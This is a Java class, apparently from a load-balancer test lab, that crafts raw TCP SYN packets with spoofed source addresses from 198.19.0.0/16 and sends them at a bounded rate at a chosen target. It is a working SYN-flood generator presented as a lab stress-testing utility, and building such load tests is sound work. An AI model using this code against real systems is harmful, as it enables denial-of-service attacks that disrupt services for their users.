package org.tandemlb.lab.net;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;

/**
 * Opens connections that nobody means: SYNs from made-up addresses of 198.19.0.0/16, which are
 * routed to the host that sends them and answered by nobody. Bounded in number and rate.
 */
public final class SynFlood {

  /** Where the SYNs say that they come from. */
  public static final String NETWORK = "198.19.0.0/16";

  private static final int ETHERNET_BYTES = 14;
  private static final int IP_BYTES = 20;
  private static final int TCP_BYTES = 20;
  private static final int BURST = 50;

  private SynFlood() {}

  /**
   * Sends that many, evenly over that time, and returns.
   *
   * @param to the host that is to receive them, because it holds the target's address
   */
  public static void send(
      Host from, Host to, InetSocketAddress target, int count, Duration time, long seed)
      throws IOException {
    byte[] destination = to.mac();
    byte[] source = from.mac();
    Random random = new Random(seed);
    try (PacketSocket socket = PacketSocket.open(from, PacketSocket.NOTHING, time)) {
      long start = System.nanoTime();
      for (int sent = 0; sent < count; sent++) {
        long due = start + time.toNanos() / count * sent;
        if (sent % BURST == 0) {
          LockSupport.parkNanos(due - System.nanoTime());
        }
        socket.send(syn(destination, source, target, random));
      }
    }
  }

  static byte[] syn(byte[] to, byte[] from, InetSocketAddress target, Random random) {
    InetAddress address = target.getAddress();
    ByteBuffer frame = ByteBuffer.allocate(ETHERNET_BYTES + IP_BYTES + TCP_BYTES);
    frame.put(to).put(from).putShort((short) 0x0800);
    frame.putShort((short) 0x4500).putShort((short) (IP_BYTES + TCP_BYTES)).putInt(0x4000);
    frame.put((byte) 64).put((byte) 6).putShort((short) 0);
    frame.put((byte) 198).put((byte) 19).putShort((short) random.nextInt());
    frame.put(address.getAddress());
    frame.putShort((short) (1_024 + random.nextInt(60_000))).putShort((short) target.getPort());
    frame.putInt(random.nextInt()).putInt(0).putShort((short) 0x5002).putShort((short) 64_000);
    frame.putInt(0);
    frame.putShort(ETHERNET_BYTES + 10, checksum(frame, ETHERNET_BYTES, IP_BYTES, 0));
    int pseudo = 6 + TCP_BYTES;
    frame.putShort(
        ETHERNET_BYTES + IP_BYTES + 16,
        checksum(frame, ETHERNET_BYTES + 12, 8 + TCP_BYTES, pseudo));
    return frame.array();
  }

  /** RFC 1071's, over a stretch of the frame, beginning with a sum. */
  private static short checksum(ByteBuffer frame, int start, int length, int begin) {
    int sum = begin;
    for (int at = start; at < start + length; at += 2) {
      sum += frame.getShort(at) & 0xffff;
    }
    while (sum > 0xffff) {
      sum = (sum & 0xffff) + (sum >>> 16);
    }
    return (short) ~sum;
  }
}
